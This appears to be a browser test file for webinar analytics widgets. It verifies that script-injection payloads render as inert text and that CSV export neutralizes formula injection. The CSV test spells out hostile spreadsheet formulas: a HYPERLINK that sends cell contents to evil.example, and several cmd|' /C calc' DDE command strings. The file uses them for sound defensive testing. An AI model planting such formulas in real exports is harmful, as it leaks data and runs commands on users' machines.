/*
 * Hostile input at the widget level, in Chromium: script-injection payloads in event names,
 * event ids, lead ids, the backend's error messages, the `strings` overrides, the picker's
 * criteria and the summary's range attributes render inert — no script runs, the text shows
 * literally. The summary's CSV export neutralizes spreadsheet formulas. Attribute values a
 * page gets wrong never leave a widget throwing or stuck.
 */
import { http, HttpResponse } from 'msw';
import { describe, expect, it, vi } from 'vitest';
import { createRestAdapter } from '../../../src/adapters/index.ts';
import { type WebinarData } from '../../../src/adapters/memory.ts';
import type { OdwEventModePicker } from '../../../src/picker.ts';
import type { OdwOnDemandSummary } from '../../../src/summary.ts';
import { eventModePickerStrings } from '../../../src/elements/event-mode-picker/event-mode-picker.strings.ts';
import { onDemandStatisticsStrings } from '../../../src/elements/on-demand-statistics/on-demand-statistics.strings.ts';
import { onDemandSummaryStrings } from '../../../src/elements/on-demand-summary/on-demand-summary.strings.ts';
import { REFERENCE_NOW, scenarioData } from '../../../mocks/index.ts';
import { browserBackend, servedAs } from '../../fixtures/reliability/backend.ts';
import { textOf, watchEveryTest } from '../../fixtures/reliability/watch.ts';
import { dataShown, ERROR_PREFIX, errorShown, expectedData, mountWidget, WIDGETS, type WidgetElement, type WidgetName } from '../../fixtures/reliability/widgets.ts';
import { expectInert, resetInjectionFlag, XSS } from '../../fixtures/reliability/xss.ts';

const baseUrl = '/odw-reliability-hostile';
const now = REFERENCE_NOW;
const midWindow = scenarioData('mid-window', { now });

/** mid-window with the payload as its name, and every lead id replaced by a payload-bearing one. */
function hostileData(): WebinarData {
  const rename = new Map(midWindow.attendance.registrants.map((registrant, index) => [registrant.leadId, `${XSS} #${index}`]));
  return {
    event: { ...midWindow.event, id: 'hostile', name: XSS },
    attendance: {
      ...midWindow.attendance,
      registrants: midWindow.attendance.registrants.map((registrant) => ({ ...registrant, leadId: rename.get(registrant.leadId) as string })),
      views: midWindow.attendance.views.map((view) => ({ ...view, leadId: rename.get(view.leadId) ?? `${XSS} stranger` })),
    },
  };
}
const hostile = hostileData();

const backend = browserBackend(baseUrl, servedAs(baseUrl, 'hostile', hostile));

const watch = watchEveryTest(backend, resetInjectionFlag);

const adapter = () => createRestAdapter({ baseUrl, sleep: async () => {}, pushDown: false });

/** Every string of a catalog prefixed with the payload (placeholders kept, so messages still fill in). */
function hostileStrings<T extends object>(catalog: T): T {
  const walk = (value: unknown): unknown =>
    typeof value === 'string' ? `${XSS} ${value}` : typeof value === 'object' && value !== null ? Object.fromEntries(Object.entries(value).map(([key, item]) => [key, walk(item)])) : value;
  return walk(catalog) as T;
}

const STRINGS: Record<WidgetName, object> = {
  statistics: hostileStrings(onDemandStatisticsStrings.en),
  summary: hostileStrings(onDemandSummaryStrings.en),
  picker: hostileStrings(eventModePickerStrings.en),
};

// "Stuck" is a widget that never shows its data; a second was enough on a quiet machine, but a CI
// run with the CPUs busy took longer for the third widget of a page. 10 s still tells stuck from slow.
const SHOWN_WITHIN = 10_000;

describe('script-injection payloads render as inert text', () => {
  it.each(WIDGETS)('%s: in the event name and every lead id (through the REST adapter)', async (widget) => {
    const element = mountWidget(widget, { adapter: adapter(), eventId: 'hostile', now });
    expect(await dataShown(widget, element)).toBe(expectedData(widget, hostile, now));
    // The picker does not show the event's name; the others do, literally.
    await expectInert(element, widget === 'picker' ? [] : [XSS]);
    if (widget === 'summary') {
      (element as OdwOnDemandSummary).showTable = true;
      (element as OdwOnDemandSummary).showRewatches = true;
      await element.updateComplete;
      await expectInert(element, [XSS]);
    }
  });

  it.each(WIDGETS)('%s: in the event id, quoted by the not-found message', async (widget) => {
    const element = mountWidget(widget, { adapter: adapter(), eventId: XSS, now });
    const box = await errorShown(widget, element);
    // Plain words for the person (#16); the adapter's message, quoting the id, in the technical details.
    expect(textOf(box.querySelector('span'))).toBe(`${ERROR_PREFIX[widget]} this event could not be found; check that the link or the chosen event is right.`);
    expect(textOf(element.shadowRoot?.querySelector('[part="error-details"] code'))).toBe(`not-found · HTTP 404 · Event "${XSS}" was not found (404).`);
    await expectInert(element, [XSS]);
  });

  it.each(WIDGETS)('%s: in the backend’s own error message', async (widget) => {
    backend.worker.use(http.all(`${baseUrl}/events/*`, () => HttpResponse.json({ error: { code: 'unauthorized', message: XSS } }, { status: 401 })));
    const element = mountWidget(widget, { adapter: adapter(), eventId: 'mid-window', now });
    await errorShown(widget, element);
    expect(textOf(element.shadowRoot?.querySelector('[part="error-details"] code'))).toContain(`(401): ${XSS}. Sign in again`);
    await expectInert(element, [XSS]);
  });

  it.each(WIDGETS)('%s: in every `strings` override, loaded and in error', async (widget) => {
    const overrides = (element: WidgetElement) => ((element as { strings: unknown }).strings = STRINGS[widget]);
    const loaded = mountWidget(widget, { adapter: adapter(), eventId: 'mid-window', now, setup: overrides });
    await vi.waitFor(() => expect(textOf(loaded.shadowRoot)).toMatch(widget === 'picker' ? /people match/ : /Quarterly roadmap webinar/), { timeout: 5000, interval: 10 });
    await expectInert(loaded, [XSS]);
    const failing = mountWidget(widget, { adapter: adapter(), eventId: 'unknown-event', now, setup: overrides });
    await vi.waitFor(() => expect(failing.shadowRoot?.querySelector('[role="alert"]')).not.toBeNull(), { timeout: 5000, interval: 10 });
    expect(textOf(failing.shadowRoot?.querySelector('[role="alert"]'))).toContain(`${XSS} Retry`);
    await expectInert(failing, [XSS]);
  });

  it('picker: in the criteria it is given (unknown fields and values are listed as text)', async () => {
    const criteria = JSON.stringify({ version: 1, kind: XSS, eventMode: 'on-demand', [XSS]: true, watchDuration: { operator: XSS } });
    const picker = mountWidget('picker', { adapter: adapter(), eventId: 'mid-window', now, setup: (element) => (element as OdwEventModePicker).setAttribute('criteria', criteria) }) as OdwEventModePicker;
    await vi.waitFor(() => expect(textOf(picker.shadowRoot)).toContain(`Unsupported setting “${XSS}”`), { timeout: SHOWN_WITHIN, interval: 10 });
    expect(picker.validity.valid).toBe(false);
    await expectInert(picker, [XSS]);
    // The form value is the criteria JSON, as given: data, not markup (and not valid criteria: no `value`).
    expect(JSON.parse(JSON.stringify(picker.draft))).toMatchObject({ kind: XSS, [XSS]: true });
    expect(picker.value).toBeNull();
  });

  it('summary: in the from / to attributes, quoted by the range error', async () => {
    const element = mountWidget('summary', {
      adapter: adapter(),
      eventId: 'mid-window',
      now,
      setup: (summary) => {
        summary.setAttribute('from', XSS);
        summary.setAttribute('to', XSS);
      },
    });
    await errorShown('summary', element);
    expect(textOf(element.shadowRoot?.querySelector('[part="error-details"] code'))).toContain(`range.from must be a calendar day YYYY-MM-DD, got ${JSON.stringify(XSS)}`);
    await expectInert(element, []);
  });
});

describe('CSV export through the summary widget', () => {
  it('neutralizes formula injection (=, +, -, @, tab, CR) in every text cell, and downloads a blob: URL', async () => {
    const formulas = {
      columnDay: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      columnVisitors: '+cmd|\' /C calc\'!A0',
      columnRewatchers: '-2+3+cmd|\' /C calc\'!A0',
      columnMinutes: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    };
    const element = mountWidget('summary', { adapter: adapter(), eventId: 'hostile', now, setup: (summary) => ((summary as OdwOnDemandSummary).strings = formulas) });
    await dataShown('summary', element);
    const blobs: Blob[] = [];
    const anchors: HTMLAnchorElement[] = [];
    const create = vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => (blobs.push(blob as Blob), 'blob:odw-test'));
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
      anchors.push(this);
    });
    try {
      const button = [...(element.shadowRoot?.querySelectorAll('button') ?? [])].find((candidate) => candidate.textContent?.includes('CSV'));
      button?.click();
      const text = (await blobs[0]?.text()) ?? '';
      const [header, firstRow] = text.split('\r\n');
      expect(header).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0`);
      expect(firstRow).toMatch(/^\d{4}-\d\d-\d\d,\d+,\d+,[\d.]+$/);
      for (const line of text.split('\r\n').filter(Boolean)) {
        for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
      }
      expect(anchors).toHaveLength(1);
      expect(anchors[0]?.href).toBe('blob:odw-test');
      // The event's name, without the characters no file system takes, then the days and "reported through".
      expect(anchors[0]?.download).toMatch(/^[^<>:"/\\|?*]+ - on-demand \d{4}-\d\d-\d\d - \d{4}-\d\d-\d\d \(reported through \d{4}-\d\d-\d\d\)\.csv$/);
      expect(anchors[0]?.isConnected, 'the link never enters the page').toBe(false);
    } finally {
      create.mockRestore();
      click.mockRestore();
    }
  });
});

describe('attribute values a page gets wrong', { timeout: 60_000 }, () => {
  it.each([
    ['closing-threshold', 'abc', 'statistics'],
    ['closing-threshold', '-1', 'statistics'],
    ['closing-threshold', '1e9', 'statistics'],
    ['days', '-5', 'summary'],
    ['days', 'abc', 'summary'],
    ['theme', XSS, 'statistics'],
  ] as const)('%s="%s" on %s: an error naming the value, or data — never a throw or a blank', async (attribute, value, widget) => {
    const element = mountWidget(widget, { adapter: adapter(), eventId: 'mid-window', now, setup: (target) => target.setAttribute(attribute, value) });
    await vi.waitFor(
      () => {
        const root = element.shadowRoot as ShadowRoot;
        if (root.querySelector('[role="alert"]') === null && root.querySelector('[part="value"]') === null) throw new Error(`neither data nor an error: ${textOf(root).slice(0, 200)}`);
      },
      { timeout: SHOWN_WITHIN, interval: 10 },
    );
    // The value is named for developers, in the technical details (the person reads plain words).
    const alert = element.shadowRoot?.querySelector('[role="alert"]');
    if (alert) expect(textOf(element.shadowRoot?.querySelector('[part="error-details"]'))).toContain(attribute === 'days' ? 'number of days' : 'closingThreshold');
    await expectInert(element, []);
  });

  // Was a bug, now fixed: src/core/calendar.ts addDays() overflows Date for a huge count; summaryRange('last-days', 1e9) throws
  // RangeError "Invalid time value", which the widget shows as its error instead of the window to date.
  it('days="1000000000" on the summary shows every day to date', async () => {
    const element = mountWidget('summary', { adapter: adapter(), eventId: 'mid-window', now, setup: (target) => target.setAttribute('days', '1000000000') });
    await dataShown('summary', element, SHOWN_WITHIN);
  });

  // Was a bug, now fixed: src/i18n/locale.ts resolveLocale() returns any `locale` / `lang` text unchecked; the first Intl
  // call in render throws RangeError "Incorrect locale information provided", so the update fails
  // (an unhandled rejection) and the widget stays on its loading skeleton for good. `lang="en_US"`
  // (an underscore, a common mistake in page templates) is enough.
  it.each([
    ['locale', 'en_US'],
    ['lang on the page', 'en_US'],
    ['locale', XSS],
  ])('%s "%s" does not leave a widget stuck or throwing', async (where, value) => {
    const parent = document.createElement('div');
    if (where !== 'locale') parent.setAttribute('lang', value);
    document.body.append(parent);
    try {
      for (const widget of WIDGETS) {
        const element = mountWidget(widget, { adapter: adapter(), eventId: 'mid-window', now, parent, setup: (target) => where === 'locale' && target.setAttribute('locale', value) });
        await dataShown(widget, element, SHOWN_WITHIN);
      }
      expect(watch.current().problems()).toEqual([]);
    } finally {
      parent.remove();
    }
  });
});
